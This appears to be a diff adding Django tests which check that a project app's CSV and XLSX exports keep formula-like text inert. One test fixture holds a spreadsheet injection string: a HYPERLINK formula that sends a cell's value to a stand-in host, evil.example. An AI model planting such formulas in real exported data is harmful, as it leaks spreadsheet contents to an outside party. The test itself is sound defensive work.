@@ -9,11 +9,13 @@ from pathlib import Path
 import pytest
 from django.core.management import call_command
 from django.db import DatabaseError
+from django.http import HttpResponse
 from django.urls import reverse
 
 from projects.models import Project
 from tests.admin_personas import carl
 from tests.factories import CountryFactory, ProjectFactory
+from tests.spreadsheets import csv_rows, xlsx_rows
 
 pytestmark = pytest.mark.django_db
 
@@ -42,6 +44,14 @@ def export(client, file_format, query=""):
     if response.streaming:
         return b"".join(response.streaming_content)
     return response.content
+
+
+def csv_rows_of(content):
+    return csv_rows(HttpResponse(content))
+
+
+def xlsx_rows_of(content):
+    return xlsx_rows(HttpResponse(content))
 
 
 def preview(client, content, file_format, name):
@@ -254,3 +264,47 @@ def test_an_unexpected_failure_is_a_sentence_without_server_paths(client, editor
     assert "oväntat fel" in page
     # The operators learn what it was.
     assert "No space left on device" in caplog.text
+
+
+# --- Exports: text stays text -------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")'
+
+
+@pytest.fixture
+def hostile(palestine):
+    project = ProjectFactory(title_sv=HOSTILE, title_en="@SUM(A1)", summary_sv="-5 % i år",
+                             body_sv="'citat'", countries=[palestine])
+    return project
+
+
+def test_the_csv_export_writes_formulas_as_text_and_reads_them_back(client, editor, hostile):
+    content = export(client, CSV)
+    (row,) = csv_rows_of(content)
+    assert row["title_sv"] == "'" + HOSTILE
+    assert row["title_en"] == "'@SUM(A1)"
+    assert row["summary_sv"] == "'-5 % i år"
+    assert row["body_sv"] == "'citat'"  # no formula: as it is
+    # The same file imports back unchanged.
+    response = preview(client, content, IMPORT_CSV, "projekt.csv")
+    assert [r.import_type for r in response.context["result"].valid_rows()] == ["skip"]
+
+
+def test_the_xlsx_export_holds_formulas_as_text_cells(client, editor, hostile):
+    content = export(client, XLSX)
+    (row,) = xlsx_rows_of(content)
+    assert row["title_sv"].data_type == "s"
+    assert row["title_sv"].value == HOSTILE
+    assert row["title_en"].value == "@SUM(A1)"
+    assert row["summary_sv"].value == "-5 % i år"
+    assert row["budget_sek"].value == 1_000_000  # numbers stay numbers
+    response = preview(client, content, IMPORT_XLSX, "projekt.xlsx")
+    assert [r.import_type for r in response.context["result"].valid_rows()] == ["skip"]
+
+
+def test_a_control_character_stored_in_a_text_does_not_stop_the_xlsx_export(client, editor,
+                                                                           hostile):
+    # Stored before control characters were stripped on save (an update() saves nothing).
+    Project.objects.filter(pk=hostile.pk).update(body_sv="Före\x02 efter")
+    (row,) = xlsx_rows_of(export(client, XLSX))
+    assert row["body_sv"].value == "Före efter"
